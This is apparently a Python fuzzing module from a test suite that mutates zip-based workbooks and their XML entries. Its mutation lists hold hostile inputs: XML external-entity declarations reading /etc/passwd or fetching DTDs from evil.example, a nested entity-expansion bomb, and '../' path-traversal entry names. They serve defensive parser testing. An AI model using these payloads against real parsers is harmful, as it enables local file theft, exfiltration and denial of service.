"""Zip files of several kinds, workbooks among them -> the same, damaged: bytes, entries, XML."""

import io
import re
from collections.abc import Iterable
from random import Random
from xml.sax.saxutils import escape, quoteattr
from zipfile import ZIP_DEFLATED, ZIP_STORED, BadZipFile, ZipFile

from tests.fuzzing.mutating import bytes_damaged, damaged, text_damaged

PACKED = (".xlsx", ".ods", ".kmz", ".zip")
XML = (".xml", ".rels", ".kml")
ELEMENT = re.compile(rb"<(\w[\w:.-]*)[^<>]*/>|<(\w[\w:.-]*)[^<>]*>[^<>]*</\2>")
ATTRIBUTE = re.compile(rb'="[^"<>]*"')
ATTRIBUTES = (
    *("0", "-1", "1", "16384", "1048576", "65535", "4294967295", "99999999999999999999", "1e9"),
    *("A0", "A1", "XFD1048576", "ZZZZ1", "A1:XFD1048576", "B2:A1", "$A$1", "", "x", "NaN"),
    *(
        "s",
        "str",
        "inlineStr",
        "b",
        "e",
        "n",
        "d",
        "float",
        "date",
        "time",
        "boolean",
        "percentage",
    ),
    *("../../etc/passwd", "/xl/workbook.xml", "http://evil.example/x", "file:///etc/passwd"),
    *("rId1", "rId2", "worksheets/sheet1.xml", "styles.xml", "2025-02-30", "PT99H99M", "true"),
)
NESTED = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, 10))
DOCTYPES = (
    f'<!DOCTYPE x [<!ENTITY e0 "ha">{NESTED}]>',
    '<!DOCTYPE x [<!ENTITY e9 SYSTEM "file:///etc/passwd">]>',
    '<!DOCTYPE x [<!ENTITY % e SYSTEM "http://evil.example/e.dtd"> %e;]>',
    '<!DOCTYPE x SYSTEM "http://evil.example/x.dtd">',
)


def packed_damaged(content: bytes, chance: Random) -> bytes:
    """Damage a zip file, or a file or several in it, or how they are called and ordered."""
    if chance.random() < 0.3:
        return bytes_damaged(content, chance)
    packed = io.BytesIO()
    try:
        with ZipFile(io.BytesIO(content)) as old, ZipFile(packed, "w", ZIP_DEFLATED) as new:
            entries = old.namelist()
            if chance.random() < 0.1:
                chance.shuffle(entries)
            broken = chance.sample(entries, min(chance.choice([1, 1, 1, 2, 4]), len(entries)))
            for entry in entries:
                held = old.read(entry)
                called = chance.choice(
                    [entry] * 6 + [f"../{entry}", f"/{entry}", f"{'x' * 300}{entry}"]
                )
                how = old.getinfo(entry).compress_type
                if entry in broken:
                    new.writestr(called, entry_damaged(entry, held, chance), how)
                elif chance.random() > 0.02:
                    new.writestr(entry, held, how)
    except BadZipFile:
        return content
    return packed.getvalue()


def entry_damaged(entry: str, content: bytes, chance: Random) -> bytes:
    """Damage a file of a zip file by what it is."""
    if entry.endswith(XML):
        return chance.choice([xml_damaged, xml_damaged, text_damaged])(content, chance)
    return damaged(entry, content, chance)


def xml_damaged(content: bytes, chance: Random) -> bytes:
    """Change attributes and elements, or put in a document type with entities."""
    for _ in range(chance.choice([1, 1, 2, 5])):
        how = chance.randrange(6)
        spans = [one.span() for one in (ATTRIBUTE if how < 3 else ELEMENT).finditer(content)]
        if not spans:
            return bytes_damaged(content, chance)
        at, to = chance.choice(spans)
        if how < 3:
            content = content[:at] + b"=" + quoted(chance.choice(ATTRIBUTES)) + content[to:]
        elif how == 3:
            content = content[:at] + content[at:to] * chance.choice([0, 2, 50]) + content[to:]
        elif how == 4:
            other = chance.choice(spans)[0]
            content = content[:other] + content[at:to] + content[other:]
        else:
            begin = re.search(rb"<\w", content)
            within = content.find(b">", at, to) + 1 or at
            content = content[:within] + b"&e9;" + content[within:]
            if begin:
                kind = chance.choice(DOCTYPES).encode()
                content = content[: begin.start()] + kind + content[begin.start() :]
    return content


def quoted(text: str) -> bytes:
    """Write a value of an attribute."""
    return quoteattr(text).encode()


def opendocument(sheets: Iterable[tuple[str, Iterable[Iterable[str]]]]) -> bytes:
    """Write sheets as LibreOffice does: numbers and dates as what they are."""
    tables = "".join(
        f"<table:table table:name={quoteattr(name)}>"
        + "".join(f"<table:table-row>{''.join(map(_cell, row))}</table:table-row>" for row in rows)
        + "</table:table>"
        for name, rows in sheets
    )
    spaces = " ".join(
        f'xmlns:{short}="urn:oasis:names:tc:opendocument:xmlns:{short}:1.0"'
        for short in ("office", "table", "text")
    )
    kind = "application/vnd.oasis.opendocument.spreadsheet"
    entries = {
        "mimetype": kind,
        "META-INF/manifest.xml": '<manifest:manifest xmlns:manifest="urn:oasis:names:tc:'
        'opendocument:xmlns:manifest:1.0"><manifest:file-entry manifest:full-path="/" '
        f'manifest:media-type="{kind}"/></manifest:manifest>',
        "content.xml": f"<office:document-content {spaces}><office:body><office:spreadsheet>"
        f"{tables}</office:spreadsheet></office:body></office:document-content>",
    }
    written = io.BytesIO()
    with ZipFile(written, "w", ZIP_DEFLATED) as packed:
        for name, text in entries.items():
            packed.writestr(name, text, ZIP_STORED if name == "mimetype" else ZIP_DEFLATED)
    return written.getvalue()


def _cell(text: str) -> str:
    """Write a cell; one that is empty stands for as many as it says."""
    if not text:
        return '<table:table-cell table:number-columns-repeated="1"/>'
    if re.fullmatch(r"-?\d{1,3}\.\d+", text):
        kind = f'"float" office:value="{text}"'
    elif re.fullmatch(r"\d{4}-\d\d-\d\d", text):
        kind = f'"date" office:date-value="{text}"'
    else:
        kind = '"string"'
    return (
        f"<table:table-cell office:value-type={kind}><text:p>{escape(text)}</text:p>"
        "</table:table-cell>"
    )
